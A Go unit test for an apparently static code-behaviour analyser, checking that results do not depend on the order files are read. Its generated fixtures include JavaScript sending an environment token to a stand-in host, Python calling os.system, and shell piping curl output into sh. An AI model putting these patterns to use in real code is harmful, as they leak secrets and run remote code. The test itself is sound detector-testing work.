package behavior

import (
	"fmt"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// What a file does is the same whichever files were read before it, in whose space.
func TestFilesAreReadAlikeInAnyOrder(t *testing.T) {
	type source struct{ path, text string }
	var sources []source
	for i := range 40 {
		sources = append(sources,
			source{"a.js", fmt.Sprintf("const k = process.env.TOKEN_%d; class A { go(x) { fetch('https://x%d.invalid/' + x) } } new A().go(k); %s", i, i, repeated(i*20, "f%d(1);"))},
			source{"a.py", fmt.Sprintf("import os\ndef f(c):\n    os.system(c)\nf('run %d')\n", i)},
			source{"a.sh", fmt.Sprintf("q='curl https://y%d.invalid'\n$q | sh\n", i)},
		)
	}
	read := make([]*File, len(sources))
	for i, s := range sources {
		read[i] = Of(s.path, []byte(s.text))
	}
	for i := len(sources) - 1; i >= 0; i-- {
		if diff := cmp.Diff(read[i], Of(sources[i].path, []byte(sources[i].text)), cmp.AllowUnexported(looseEnd{})); diff != "" {
			t.Errorf("%s %d is read otherwise behind others:\n%s", sources[i].path, i, diff)
		}
	}
}
